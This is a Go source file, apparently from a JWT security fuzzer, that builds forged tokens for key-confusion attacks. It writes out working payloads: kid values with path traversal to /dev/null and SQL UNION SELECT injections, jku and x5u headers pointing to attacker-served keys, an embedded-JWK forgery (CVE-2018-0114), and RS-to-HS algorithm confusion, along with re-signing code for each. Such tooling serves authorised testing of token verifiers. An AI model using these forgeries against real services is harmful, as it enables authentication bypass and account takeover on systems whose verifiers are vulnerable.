package jwt

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"errors"
	"fmt"
	"math/big"
	"time"
)

// The key-confusion tamperings: each makes the verifier check the
// signature with a key the attacker knows. They are built by
// KidInjections, KeyInjections and AlgConfusion, not by Tamper.
const (
	// KidPathTraversal points kid at /dev/null, which a verifier that reads
	// the key from a file named by kid reads as the empty key; the token is
	// HMAC-signed with the empty key.
	KidPathTraversal Tampering = "kid-path-traversal"
	// KidSQLInjection makes a verifier that looks kid up in SQL select the
	// constant KidSQLKey; the token is HMAC-signed with it.
	KidSQLInjection Tampering = "kid-sql-injection"
	// JKUInjection names in jku a JWKS URL the fuzzer serves, with the
	// AttackerKey in it; the token is RS256-signed with that key.
	JKUInjection Tampering = "jku-injection"
	// X5UInjection names in x5u a URL serving the AttackerKey's
	// self-signed certificate; the token is RS256-signed with that key.
	X5UInjection Tampering = "x5u-injection"
	// EmbeddedJWK carries the AttackerKey's public half in the header's
	// jwk member (CVE-2018-0114); the token is RS256-signed with it.
	EmbeddedJWK Tampering = "jwk-embedded"
	// AlgConfusionHMAC re-signs an RS*/PS*/ES* token with HS256, the server's
	// public key (as PEM or DER) being the HMAC secret: a verifier that
	// takes alg from the token uses its verification key as the secret.
	AlgConfusionHMAC Tampering = "alg-confusion"
)

// KidSQLKey is the HMAC secret the kid SQL-injection forgeries select and
// are signed with.
const KidSQLKey = "specter-kid-key"

// ForgedLifetime is how far past the reference time the key-confusion
// forgeries move exp, when the original token has one.
const ForgedLifetime = time.Hour

// keySelectors are the header members that tell a verifier where to find
// the key. Forgeries that choose the key themselves drop the others.
var keySelectors = []string{"kid", "jku", "x5u", "jwk", "x5c", "x5t", "x5t#S256"}

// forgedClaims copies t's claims and moves exp, when present, to
// ForgedLifetime after now, so that an expired sample token still tests
// the signature check.
func forgedClaims(t *Token, now time.Time) map[string]any {
	c := copyMap(t.Claims)
	if _, ok := c["exp"]; ok {
		c["exp"] = now.Add(ForgedLifetime).Unix()
	}
	return c
}

// forgedHeader copies t's header without its key selectors and sets alg
// and the given members.
func forgedHeader(t *Token, alg string, set map[string]any) map[string]any {
	h := copyMap(t.Header)
	for _, k := range keySelectors {
		delete(h, k)
	}
	h["alg"] = alg
	for k, v := range set {
		h[k] = v
	}
	return h
}

// hmacForgery signs header and claims with secret and describes the result.
func hmacForgery(kind Tampering, note string, header, claims map[string]any, secret []byte) (Forged, error) {
	tok, err := Sign(header, claims, secret)
	if err != nil {
		return Forged{}, fmt.Errorf("%s (%s): %w", kind, note, err)
	}
	return Forged{Tampering: kind, Token: tok, Note: note, Key: append([]byte{}, secret...), Header: header, Claims: claims}, nil
}

// kidInjection is one kid value and the key it makes a vulnerable
// verifier use.
type kidInjection struct {
	kind Tampering
	kid  string
	key  string
	note string
}

var kidInjections = []kidInjection{
	{KidPathTraversal, "../../../../../../../../dev/null", "", "relative path to /dev/null, empty HMAC key"},
	{KidPathTraversal, "/dev/null", "", "absolute path /dev/null, empty HMAC key"},
	{KidSQLInjection, "x' UNION SELECT '" + KidSQLKey + "'-- -", KidSQLKey, "quoted UNION SELECT of the key " + KidSQLKey},
	{KidSQLInjection, "0 UNION SELECT '" + KidSQLKey + "'-- -", KidSQLKey, "unquoted UNION SELECT of the key " + KidSQLKey},
}

// KidInjections builds the forgeries whose kid makes a verifier that looks
// keys up by kid use a key the attacker knows: paths to /dev/null signed
// with the empty HMAC key (HMAC pads keys with zeros, so this is also the
// forgery for a verifier that maps an empty file to a single zero byte),
// and SQL injections selecting KidSQLKey, signed with it. The header keeps
// t's members but the other key selectors (jku, x5u, jwk, x5c, x5t), and
// t's alg when that is HS*, else says HS256; the claims are t's with exp,
// when present, ForgedLifetime after now.
func KidInjections(t *Token, now time.Time) ([]Forged, error) {
	alg := t.Alg()
	if !t.IsHMAC() {
		alg = "HS256"
	}
	claims := forgedClaims(t, now)
	out := make([]Forged, 0, len(kidInjections))
	for _, k := range kidInjections {
		f, err := hmacForgery(k.kind, fmt.Sprintf("kid %q: %s", k.kid, k.note), forgedHeader(t, alg, map[string]any{"kid": k.kid}), copyMap(claims), []byte(k.key))
		if err != nil {
			return nil, fmt.Errorf("kid injection: %w", err)
		}
		out = append(out, f)
	}
	return out, nil
}

// signRS256 returns a compact JWS of header (whose alg must be RS256) and
// claims signed with priv.
func signRS256(header, claims map[string]any, priv *rsa.PrivateKey) (string, error) {
	hs, err := encodeJSON(header)
	if err != nil {
		return "", fmt.Errorf("sign RS256: header: %w", err)
	}
	cs, err := encodeJSON(claims)
	if err != nil {
		return "", fmt.Errorf("sign RS256: claims: %w", err)
	}
	digest := sha256.Sum256([]byte(hs + "." + cs))
	sig, err := rsa.SignPKCS1v15(nil, priv, crypto.SHA256, digest[:])
	if err != nil {
		return "", fmt.Errorf("sign RS256: %w", err)
	}
	return hs + "." + cs + "." + b64.EncodeToString(sig), nil
}

// asymmetricHash returns the hash of an RS*, PS* or ES* alg.
func asymmetricHash(alg string) (crypto.Hash, bool) {
	if len(alg) != 5 {
		return 0, false
	}
	switch alg[:2] {
	case "RS", "PS", "ES":
	default:
		return 0, false
	}
	switch alg[2:] {
	case "256":
		return crypto.SHA256, true
	case "384":
		return crypto.SHA384, true
	case "512":
		return crypto.SHA512, true
	}
	return 0, false
}

// IsAsymmetric reports whether the token's alg is RS*, PS* or ES*: signed
// with a private key and verified with a public one.
func (t *Token) IsAsymmetric() bool { _, ok := asymmetricHash(t.Alg()); return ok }

func digestOf(h crypto.Hash, msg string) []byte {
	switch h {
	case crypto.SHA256:
		d := sha256.Sum256([]byte(msg))
		return d[:]
	case crypto.SHA384:
		d := sha512.Sum384([]byte(msg))
		return d[:]
	default:
		d := sha512.Sum512([]byte(msg))
		return d[:]
	}
}

// VerifyKey reports whether an RS*, PS* or ES* token's signature verifies
// with pub (an *rsa.PublicKey or *ecdsa.PublicKey), e.g. to pick, among a
// JWKS's keys, the one that signed a sample token. Other algs and keys of
// the wrong type never verify.
func (t *Token) VerifyKey(pub crypto.PublicKey) bool {
	alg := t.Alg()
	h, ok := asymmetricHash(alg)
	if !ok {
		return false
	}
	digest := digestOf(h, t.SigningInput())
	switch k := pub.(type) {
	case *rsa.PublicKey:
		switch alg[:2] {
		case "RS":
			return rsa.VerifyPKCS1v15(k, h, digest, t.Signature) == nil
		case "PS":
			return rsa.VerifyPSS(k, h, digest, t.Signature, &rsa.PSSOptions{SaltLength: rsa.PSSSaltLengthAuto}) == nil
		}
	case *ecdsa.PublicKey:
		if alg[:2] != "ES" {
			return false
		}
		size := (k.Curve.Params().BitSize + 7) / 8
		if len(t.Signature) != 2*size {
			return false
		}
		r := new(big.Int).SetBytes(t.Signature[:size])
		s := new(big.Int).SetBytes(t.Signature[size:])
		return ecdsa.Verify(k, digest, r, s)
	}
	return false
}

// errNotAsymmetric is returned by AlgConfusion for HS* and unsigned tokens.
var errNotAsymmetric = errors.New("not an RS*, PS* or ES* token")
